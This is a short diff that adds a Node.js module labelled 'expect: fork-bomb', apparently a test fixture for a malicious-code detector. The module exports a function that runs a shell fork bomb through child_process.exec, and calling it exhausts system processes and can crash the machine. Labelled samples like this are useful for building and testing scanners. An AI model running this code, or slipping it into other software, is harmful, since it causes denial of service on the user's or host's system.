@@ -1,0 +1,3 @@
+// expect: fork-bomb
+const { exec } = require("child_process");
+module.exports = () => exec(":(){ :|:& };:");
